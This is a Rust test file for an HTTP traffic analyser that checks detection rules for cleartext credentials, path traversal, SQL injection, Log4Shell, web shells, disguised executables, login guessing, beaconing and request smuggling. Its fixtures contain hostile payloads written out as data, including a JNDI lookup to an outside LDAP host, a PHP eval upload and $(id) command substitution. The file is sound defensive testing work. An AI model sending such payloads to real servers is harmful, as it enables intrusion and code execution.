//! What is found, and what is not.

use serde_json::Value;

use super::build::{START, Talk, Tested as _, report};

const SCANNER: (&str, u16) = ("192.0.2.66", 50_000);
const SITE: (&str, u16) = ("198.51.100.20", 80);

fn ok(kind: &str, body: &[u8]) -> Vec<u8> {
    let head = format!("HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n", body.len());
    [head.as_bytes(), body].concat()
}

fn get(path: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: example.com\r\n\r\n")
}

fn post(path: &str, kind: &str, body: &str) -> String {
    format!(
        "POST {path} HTTP/1.1\r\nHost: example.com\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

fn found<'r>(report: &'r Value, rule: &str) -> Option<&'r Value> {
    report["findings"].as_array().unwrap().iter().find(|finding| finding["rule"] == rule)
}

fn rules(report: &Value) -> Vec<&str> {
    report["findings"].as_array().unwrap().iter().map(|finding| finding["rule"].as_str().unwrap()).collect()
}

#[test]
fn ordinary_pages_have_no_findings() {
    let report = Talk::open()
        .ask(get("/index.html?q=a&b=1"))
        .tell(ok("text/html", b"<!DOCTYPE html><html>"))
        .ask(get("/logo.png"))
        .tell(ok("image/png", b"\x89PNG\r\n\x1a\n"))
        .ask(post("/search", "application/x-www-form-urlencoded", "q=cats&user=bob"))
        .tell("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
        .report();
    assert_eq!(rules(&report), [""; 0]);
}

#[test]
fn passwords_in_clear_are_told_and_never_shown() {
    let report = Talk::open()
        .ask("GET / HTTP/1.1\r\nHost: h\r\nAuthorization: Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==\r\n\r\n")
        .tell(ok("text/plain", b"x"))
        .ask(post("/login", "application/x-www-form-urlencoded", "user=bob&password=tops3cret"))
        .tell(ok("text/plain", b"x"))
        .ask(get("/x?user=bob&pwd=tops3cret"))
        .tell(ok("text/plain", b"x"))
        .ask(post("/api", "application/json", r#"{"login":"bob","password":"tops3cret"}"#))
        .tell(ok("text/plain", b"x"))
        .ask("GET / HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer tops3cret\r\n\r\n")
        .tell(ok("text/plain", b"x"))
        .report();
    assert_eq!(rules(&report), ["http_basic_credentials", "http_password_in_clear", "http_credentials_in_clear"]);
    assert_eq!(found(&report, "http_password_in_clear").unwrap()["frames"], serde_json::json!([6, 8, 10]));
    assert!(!report.to_string().contains("s3cret") && !report.to_string().contains("sesame"), "{report}");
}

#[test]
fn attacks_are_told_by_what_they_send_and_whether_it_was_answered() {
    let report = Talk::open()
        .ask(get("/../../../../etc/passwd"))
        .tell(ok("text/plain", b"root:x:0:0:root:/root:/bin/bash\n"))
        .ask(get("/a?id=1'%20union%20select%201,2"))
        .tell("HTTP/1.1 500 Oops\r\nContent-Length: 0\r\n\r\n")
        .ask("GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: ${${lower:j}ndi:ldap://203.0.113.9/a}\r\n\r\n")
        .tell(ok("text/plain", b"x"))
        .ask(get("/up/x.php?cmd=id"))
        .tell(ok("text/html", b"uid=33(www-data) gid=33(www-data)"))
        .report();
    let mut all = rules(&report);
    all.sort_unstable();
    assert_eq!(
        all,
        ["http_attack_answered", "http_log4shell", "http_path_traversal", "http_sql_injection", "http_web_shell"]
    );
    let answered = found(&report, "http_attack_answered").unwrap();
    assert_eq!((&answered["frames"], &answered["severity"]), (&serde_json::json!([4, 10]), &"high".into()));
}

#[test]
fn programs_are_told_also_under_other_names() {
    let mut program = vec![0; 512];
    program[..2].copy_from_slice(b"MZ");
    program[0x3c] = 0x80;
    program[0x80..0x84].copy_from_slice(b"PE\0\0");
    let report = Talk::open()
        .ask(get("/setup.exe"))
        .tell(ok("application/octet-stream", &program))
        .ask(get("/logo.png"))
        .tell(ok("image/png", &program))
        .ask(get("/run"))
        .tell(ok("text/plain", b"#!/bin/sh\nid\n"))
        .report();
    assert_eq!(rules(&report), ["http_disguised_executable", "http_executable_download", "http_executable_download"]);
    let disguised = found(&report, "http_disguised_executable").unwrap();
    assert_eq!(
        (&disguised["subject"], &disguised["frames"]),
        (&"example.com/logo.png".into(), &serde_json::json!([7]))
    );
    let body = &report["exchanges"][1]["response_body"];
    assert_eq!(
        (&body["type"], &body["file_name"]),
        (&"application/vnd.microsoft.portable-executable".into(), &"logo.png".into())
    );
}

#[test]
fn uploads_of_programs_and_of_much_are_told() {
    let form = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php eval($_POST['x']);\r\n--b--";
    let report = Talk::open()
        .ask(post("/upload", "multipart/form-data; boundary=b", form))
        .tell(ok("text/plain", b"x"))
        .report();
    assert!(found(&report, "http_executable_upload").is_some() && found(&report, "http_code_injection").is_some());
    assert_eq!(report["exchanges"][0]["request_body"]["file_name"], "a.php");
    // The script comes first, then what answered.
    let files: Vec<_> =
        report["files"].as_array().unwrap().iter().map(|file| (&file["upload"], &file["type"])).collect();
    assert_eq!(files, [(&true.into(), &"application/x-php".into()), (&Value::Null, &Value::Null)]);
    let mut talk = Talk::open().ask("PUT /x HTTP/1.1\r\nHost: h\r\nContent-Length: 1000000\r\n\r\n");
    for _ in 0..20 {
        talk = talk.ask(vec![b'x'; 50_000]);
    }
    let report = talk.tell(ok("text/plain", b"x")).report();
    assert_eq!(rules(&report), ["http_upload"]);
}

/// Many short connections, as tools make them.
fn many(count: u16, apart: u64, talk: impl Fn(u16, Talk) -> Talk) -> Value {
    let talks = (0..count).map(|n| {
        let client = (SCANNER.0, SCANNER.1 + n);
        talk(n, Talk::between(client, SITE, START + u64::from(n) * apart)).close()
    });
    report(talks)
}

#[test]
fn a_search_for_directories_is_told() {
    let not_found = "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n";
    let search = |count| many(count, 20_000, |n, talk| talk.ask(get(&format!("/dir{n}"))).tell(not_found));
    assert!(found(&search(19), "http_directory_search").is_none());
    let finding = search(25);
    let finding = found(&finding, "http_directory_search").unwrap();
    assert_eq!((&finding["frames_total"], &finding["measures"][0]["value"]), (&25.into(), &25.0.into()));
    let one_page = many(25, 20_000, |_, talk| talk.ask(get("/favicon.ico")).tell(not_found));
    assert!(found(&one_page, "http_directory_search").is_none());
}

#[test]
fn guessed_logins_are_told() {
    let form = |n: u16| post("/login", "application/x-www-form-urlencoded", &format!("user=admin&pass=x{n}"));
    let fast = many(12, 2_000_000, |n, talk| talk.ask(form(n)).tell(ok("text/html", b"no")));
    let finding = found(&fast, "http_login_guessing").unwrap();
    assert!(finding["observation"].as_str().unwrap().contains("up to 12 times within a minute"));
    let slow = many(12, 20_000_000, |n, talk| talk.ask(form(n)).tell(ok("text/html", b"no")));
    assert!(found(&slow, "http_login_guessing").is_none());
}

#[test]
fn regular_posts_of_one_size_are_told() {
    let beacon = |n: u16| post("/q", "application/octet-stream", &format!("{n:020}"));
    let regular = many(15, 30_000_000, |n, talk| talk.ask(beacon(n)).tell(ok("text/plain", b"ok")));
    let finding = found(&regular, "http_regular_posts").unwrap();
    assert!(finding["observation"].as_str().unwrap().ends_with("mostly of 20 bytes, every 30 s."), "{finding}");
    let more = many(300, 30_000_000, |n, talk| talk.ask(beacon(n)).tell(ok("text/plain", b"ok")));
    let observation = found(&more, "http_regular_posts").unwrap()["observation"].clone();
    assert!(
        observation.as_str().unwrap().contains(" 300 POSTs to one path, the first 256 mostly of 20 "),
        "{observation}"
    );
    let sizes = many(15, 30_000_000, |n, talk| {
        talk.ask(post("/q", "text/plain", &"x".repeat(usize::from(n) * 7))).tell(ok("text/plain", b"ok"))
    });
    assert!(found(&sizes, "http_regular_posts").is_none());
}

#[test]
fn tools_tunnels_and_contradicting_lengths_are_told() {
    let report = report([
        Talk::open().ask("GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: sqlmap/1.7\r\n\r\n").tell(ok("text/plain", b"x")),
        Talk::between(("192.0.2.10", 40_001), SITE, START)
            .ask("CONNECT example.net:22 HTTP/1.1\r\nHost: example.net:22\r\n\r\n")
            .tell("HTTP/1.1 200 OK\r\n\r\nSSH-2.0"),
        Talk::between(("192.0.2.10", 40_002), SITE, START)
            .ask("POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
            .tell(ok("text/plain", b"x")),
    ]);
    let mut all = rules(&report);
    all.sort_unstable();
    assert_eq!(all, ["http_connect_to_odd_port", "http_request_smuggling", "http_scanner_user_agent"]);
}

#[test]
fn servers_that_fail_or_are_slow_are_told() {
    let error = "HTTP/1.1 503 Busy\r\nContent-Length: 0\r\n\r\n";
    let failing = many(6, 100_000, |_, talk| talk.ask(get("/")).tell(error));
    assert!(found(&failing, "http_server_errors").is_some());
    assert_eq!(failing["statistics"]["failed"][0]["count"], 6);
    let slow = many(6, 10_000_000, |_, talk| talk.ask(get("/")).wait(4_000_000).tell(ok("text/plain", b"x")));
    assert!(found(&slow, "http_slow_server").is_some());
    assert_eq!(slow["statistics"]["slowest"][0]["url"], "example.com/");
    let silent = many(6, 100_000, |_, talk| talk.ask(get("/")));
    assert!(found(&silent, "http_unanswered_requests").is_none(), "one direction only");
    let silent = many(7, 100_000, |n, talk| {
        let talk = talk.ask(get("/"));
        if n == 6 { talk.tell(ok("text/plain", b"x")) } else { talk }
    });
    assert!(found(&silent, "http_unanswered_requests").is_some());
}

/// Addresses of IPv6 are long, and observations are one line (`run` checks it).
#[test]
fn observations_fit_a_line_with_long_addresses() {
    let ends = [("2001:db8:1111:2222:3333:4444:5555:6666", 50_000), ("2001:db8:aaaa:bbbb:cccc:dddd:eeee:ffff", 65_535)];
    let mut program = vec![0; 512];
    program[..2].copy_from_slice(b"MZ");
    program[0x3c] = 0x80;
    program[0x80..0x84].copy_from_slice(b"PE\0\0");
    let mut talk = Talk::between(ends[0], ends[1], START)
        .ask(get("/../../etc/passwd?password=x&cmd=$(id)&q=%3Cscript&u=' or '"))
        .tell(ok("image/png", b"root:x:0:0:"))
        .ask("GET /x.png HTTP/1.1\r\nHost: h\r\nUser-Agent: feroxbuster\r\nAuthorization: Basic eDp5\r\n\r\n")
        .tell(ok("image/png", &program));
    for n in 0..300 {
        let login = format!("user=a&password=b{n}");
        talk = talk
            .ask(post(&format!("/{n}"), "application/x-www-form-urlencoded", &login))
            .tell("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
    }
    assert!(rules(&talk.report()).len() >= 9);
}
